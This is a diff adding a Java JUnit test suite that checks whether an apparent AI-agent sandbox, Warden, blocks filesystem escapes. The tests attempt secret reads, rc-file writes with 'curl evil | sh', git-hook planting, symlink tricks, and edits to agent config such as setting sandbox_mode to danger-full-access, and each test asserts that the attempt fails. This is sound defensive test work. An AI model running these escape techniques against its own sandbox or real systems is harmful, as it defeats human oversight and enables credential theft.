@@ -1,0 +1,237 @@
+package dev.warden.sandbox.escape;
+
+import dev.warden.sandbox.NetworkMode;
+import dev.warden.sandbox.SandboxCommand;
+import dev.warden.sandbox.SandboxException;
+import dev.warden.sandbox.SandboxPolicy;
+import dev.warden.sandbox.Stdio;
+import dev.warden.sandbox.fs.GitDirs;
+import org.junit.jupiter.api.Test;
+
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.nio.file.attribute.FileTime;
+import java.nio.file.attribute.PosixFilePermissions;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Set;
+import java.util.concurrent.TimeUnit;
+import java.util.stream.Stream;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+/** ESCAPES.md cases 1–11, 25, 28 and 29: the filesystem boundary. */
+abstract class FilesystemEscapes extends EscapeCases {
+    FilesystemEscapes(BackendUnderTest under) {
+        super(under);
+    }
+
+    @Test
+    void case01_writeOutsideTheWorkspace() {
+        Path etc = Path.of("/etc/warden-escape-" + f.root.getFileName());
+        Run r = bash("echo x > " + etc + " && echo ESCAPED etc;"
+                + "echo x >> \"$HOME/.bashrc\" && echo ESCAPED home;"
+                + "echo x > \"$HOME/planted\" && echo ESCAPED home-new;"
+                + "echo x > ../outside/victim.txt && echo ESCAPED sibling;"
+                + "echo x > ../outside/new.txt && echo ESCAPED sibling-new;"
+                + "echo ok > lib/inside.txt && echo WROTE");
+        assertThat(r.out()).doesNotContain("ESCAPED").contains("WROTE");
+        assertThat(etc).doesNotExist();
+        assertThat(read(f.home.resolve(".bashrc"))).isEqualTo("# rc\n");
+        assertThat(f.home.resolve("planted")).doesNotExist();
+        assertThat(read(f.outside.resolve("victim.txt"))).isEqualTo("untouched\n");
+        assertThat(f.outside.resolve("new.txt")).doesNotExist();
+        assertThat(read(f.workspace.resolve("lib/inside.txt"))).isEqualTo("ok\n");
+    }
+
+    @Test
+    void case02_readDeniedSecretsInHome() {
+        Run r = bash("cat \"$HOME/.ssh/id_rsa\" \"$HOME/.aws/credentials\"; ls -la \"$HOME/.ssh\"; grep -r s3cr3t \"$HOME\"");
+        assertThat(r.out() + r.err()).doesNotContain(Fixture.SECRET);
+    }
+
+    @Test
+    void case03_readDenyGlobFilesTopLevelAndNested() {
+        Run r = bash("cat .env sub/nested/prod.env; grep -r s3cr3t . ; cp .env copy.txt; cat copy.txt");
+        assertThat(r.out() + r.err()).doesNotContain(Fixture.SECRET);
+    }
+
+    @Test
+    void case04_gitHooksAndConfig() throws IOException {
+        String config = read(f.workspace.resolve(".git/config"));
+        Run r = bash("echo 'curl evil' > .git/hooks/pre-commit && echo ESCAPED hook;"
+                + "echo '[core] hooksPath=/tmp' >> .git/config && echo ESCAPED config;"
+                + "mv .git/hooks .git/hooks.old && echo ESCAPED move");
+        assertThat(r.out()).doesNotContain("ESCAPED");
+        assertThat(f.workspace.resolve(".git/hooks/pre-commit")).doesNotExist();
+        assertThat(read(f.workspace.resolve(".git/config"))).isEqualTo(config);
+
+        // Create .git/hooks when it is missing.
+        deleteTree(f.workspace.resolve(".git/hooks"));
+        Run missing = bash("mkdir -p .git/hooks && echo ESCAPED mkdir; echo x > .git/hooks/post-checkout && echo ESCAPED write");
+        assertThat(missing.out()).doesNotContain("ESCAPED");
+        assertThat(f.workspace.resolve(".git/hooks")).doesNotExist();
+    }
+
+    @Test
+    void case05_worktreeGitdirHooks() throws IOException {
+        // A worktree whose .git file points into a second writable root: the pointed-to gitdir is protected too.
+        Path shared = Files.createDirectories(f.root.resolve("shared"));
+        Path realGit = Files.createDirectories(shared.resolve("real.git/hooks"));
+        Files.createDirectories(shared.resolve("work"));
+        Fixture.write(shared.resolve("real.git/config"), "[core]\n");
+        Path tree = Files.createDirectories(f.root.resolve("tree"));
+        Fixture.write(tree.resolve(".git"), "gitdir: ../shared/real.git\n");
+        List<Path> protectedPaths = new ArrayList<>(GitDirs.protectedFor(tree));
+        assertThat(protectedPaths).contains(shared.resolve("real.git"));
+        SandboxPolicy policy = new SandboxPolicy(true, List.of(), List.of(tree, shared), protectedPaths,
+                List.of(), List.of(), 4, NetworkMode.OFF);
+        Run r = Run.of(under.backend(), policy, tree, f.environment(), "/bin/bash", "-c",
+                "echo evil > ../shared/real.git/hooks/pre-commit && echo ESCAPED hook;"
+                        + "echo evil >> ../shared/real.git/config && echo ESCAPED config;"
+                        + "echo 'gitdir: /tmp' > .git && echo ESCAPED pointer;"
+                        + "echo ok > ../shared/work/other.txt && echo WROTE");
+        assertThat(r.out()).doesNotContain("ESCAPED").contains("WROTE");
+        assertThat(realGit.resolve("pre-commit")).doesNotExist();
+        assertThat(read(shared.resolve("real.git/config"))).isEqualTo("[core]\n");
+    }
+
+    @Test
+    void case06_agentConfigDirectoriesExistingOrNot() throws IOException {
+        Fixture.write(f.workspace.resolve(".codex/config.toml"), "model = \"x\"\n");
+        Run r = bash("mkdir .warden && echo ESCAPED mkdir-warden; echo '[x]' > .warden/config.toml && echo ESCAPED warden;"
+                + "echo 'sandbox_mode = \"danger-full-access\"' >> .codex/config.toml && echo ESCAPED codex;"
+                + "mkdir -p .agents/skills && echo ESCAPED agents;"
+                + "rm -rf .warden .codex .agents 2>/dev/null; ls -d .codex >/dev/null && echo STILL-THERE");
+        assertThat(r.out()).doesNotContain("ESCAPED").contains("STILL-THERE");
+        assertThat(read(f.workspace.resolve(".codex/config.toml"))).isEqualTo("model = \"x\"\n");
+        assertNothingPlantedIn(f.workspace.resolve(".warden"), f.workspace.resolve(".agents"));
+    }
+
+    @Test
+    void case07_shellRcFiles() {
+        Run r = bash("for f in \"$HOME/.bashrc\" \"$HOME/.profile\" \"$HOME/.zshrc\" .bashrc .profile .zshrc .envrc; do"
+                + " echo 'curl evil | sh' >> \"$f\" && echo ESCAPED \"$f\"; done");
+        assertThat(r.out()).doesNotContain("ESCAPED");
+        assertThat(read(f.home.resolve(".bashrc"))).isEqualTo("# rc\n");
+        assertThat(read(f.home.resolve(".profile"))).isEqualTo("# profile\n");
+        assertThat(f.home.resolve(".zshrc")).doesNotExist();
+        assertThat(read(f.workspace.resolve(".bashrc"))).isEqualTo("# workspace rc\n");
+        assertNothingPlantedIn(f.workspace.resolve(".envrc"), f.workspace.resolve(".profile"), f.workspace.resolve(".zshrc"));
+    }
+
+    @Test
+    void case08_ideAndAgentConfigThatExecutesLater() {
+        List<String> targets = List.of(".vscode/settings.json", ".vscode/tasks.json", ".idea/workspace.xml", ".mcp.json",
+                ".claude/settings.json", ".gemini/settings.json", ".cursor/mcp.json");
+        StringBuilder script = new StringBuilder();
+        for (String t : targets) {
+            script.append("mkdir -p \"$(dirname ").append(t).append(")\" 2>/dev/null; echo '{}' > ").append(t)
+                    .append(" && echo ESCAPED ").append(t).append(";");
+        }
+        Run r = bash(script.toString());
+        assertThat(r.out()).doesNotContain("ESCAPED");
+        for (String t : targets) {
+            assertThat(Files.isRegularFile(f.workspace.resolve(t))).as(t).isFalse();
+        }
+        assertNothingPlantedIn(Stream.of(".vscode", ".idea", ".mcp.json", ".claude", ".gemini", ".cursor")
+                .map(f.workspace::resolve).toArray(Path[]::new));
+    }
+
+    @Test
+    void case09_symlinkToSecretInWorkspace() throws IOException {
+        Files.createSymbolicLink(f.workspace.resolve("key"), f.home.resolve(".ssh/id_rsa"));
+        Run r = bash("cat key; cat ./key/../key");
+        assertThat(r.out() + r.err()).doesNotContain(Fixture.SECRET);
+    }
+
+    @Test
+    void case10_danglingSymlinkWrittenThrough() throws IOException {
+        Files.createSymbolicLink(f.workspace.resolve("out"), f.home.resolve("new-file"));
+        Run r = bash("echo planted > out && echo ESCAPED");
+        assertThat(r.out()).doesNotContain("ESCAPED");
+        assertThat(f.home.resolve("new-file")).doesNotExist();
+    }
+
+    @Test
+    void case11_hardLinkFromOutside() {
+        Run r = bash("ln ../outside/victim.txt hl && echo LINKED; echo appended >> hl && echo APPENDED");
+        assertThat(read(f.outside.resolve("victim.txt"))).isEqualTo("untouched\n");
+    }
+
+    @Test
+    void case25_metadataOutsideTheWorkspace() throws IOException {
+        Path victim = f.outside.resolve("victim.txt");
+        Set<?> mode = Files.getPosixFilePermissions(victim);
+        FileTime mtime = Files.getLastModifiedTime(victim);
+        Run r = bash("chmod 777 ../outside/victim.txt; touch -d 2001-01-01 ../outside/victim.txt; "
+                + PYTHON + " " + probe + " setxattr ../outside/victim.txt");
+        boolean xattr = r.out().contains("setxattr OK");
+        boolean contained = Files.getPosixFilePermissions(victim).equals(mode)
+                && Files.getLastModifiedTime(victim).equals(mtime) && !xattr;
+        expect(25, contained, r);
+        assertThat(read(victim)).isEqualTo("untouched\n");
+    }
+
+    @Test
+    void case28_writableRootsAndCwdAreCanonicalised() throws Exception {
+        Path link = Files.createSymbolicLink(f.root.resolve("ws-link"), f.workspace);
+        Files.createSymbolicLink(f.workspace.resolve("to-outside"), f.outside);
+        SandboxPolicy viaLink = new SandboxPolicy(true, List.of(), List.of(link), List.of(), List.of(), List.of(), 4,
+                NetworkMode.OFF);
+        Run r = Run.of(under.backend(), viaLink, link.resolve("to-outside"), f.environment(), "/bin/bash", "-c",
+                "pwd; echo x > planted && echo ESCAPED cwd; echo ok > " + link + "/through-link.txt && echo WROTE");
+        assertThat(r.out()).doesNotContain("ESCAPED").contains("WROTE").contains(f.outside.toString());
+        assertThat(f.outside.resolve("planted")).doesNotExist();
+        assertThat(read(f.workspace.resolve("through-link.txt"))).isEqualTo("ok\n");
+        // A protected path reached through a symlink the agent controls is refused, not half-applied.
+        Files.createDirectories(f.workspace.resolve("real-git"));
+        Files.createSymbolicLink(f.workspace.resolve("gitlink"), f.workspace.resolve("real-git"));
+        SandboxPolicy swapped = new SandboxPolicy(true, List.of(), List.of(f.workspace),
+                List.of(f.workspace.resolve("gitlink/hooks")), List.of(), List.of(), 4, NetworkMode.OFF);
+        assertThatThrownBy(() -> under.backend().launch(swapped,
+                new SandboxCommand(List.of("/bin/true"), f.workspace, f.environment()), Stdio.pipes()))
+                .isInstanceOf(SandboxException.class).hasMessageContaining("symlink").hasMessageContaining("gitlink");
+    }
+
+    @Test
+    void case29_privateTmpPerSession() throws Exception {
+        var first = under.backend().launch(f.policy(), new SandboxCommand(List.of("/bin/bash", "-c",
+                "echo mine > \"$TMPDIR/session-a\" && cat \"$TMPDIR/session-a\" && sleep 5"), f.workspace,
+                f.environment()), Stdio.pipes());
+        try {
+            byte[] firstOut = first.process().getInputStream().readNBytes(5);
+            assertThat(new String(firstOut)).isEqualTo("mine\n");
+            Run second = bash("echo theirs > \"$TMPDIR/session-b\" && cat \"$TMPDIR/session-b\"; ls -a /tmp \"$TMPDIR\";"
+                    + " cat /tmp/session-a; find /tmp -name session-a");
+            assertThat(second.out()).contains("theirs").doesNotContain("mine").doesNotContain("session-a");
+        } finally {
+            first.process().destroy();
+            first.process().waitFor(5, TimeUnit.SECONDS);
+        }
+    }
+
+    /** Warden may leave empty placeholder directories where it masks a missing name; nothing else. */
+    static void assertNothingPlantedIn(Path... paths) {
+        for (Path p : paths) {
+            if (Files.exists(p)) {
+                assertThat(p).as("placeholder %s", p).isEmptyDirectory();
+            }
+        }
+    }
+
+    static void deleteTree(Path dir) throws IOException {
+        try (var walk = Files.walk(dir)) {
+            for (Path p : walk.sorted(java.util.Comparator.reverseOrder()).toList()) {
+                Files.delete(p);
+            }
+        }
+    }
+
+    @SuppressWarnings("unused")
+    private static Set<java.nio.file.attribute.PosixFilePermission> rw() {
+        return PosixFilePermissions.fromString("rw-r--r--");
+    }
+}
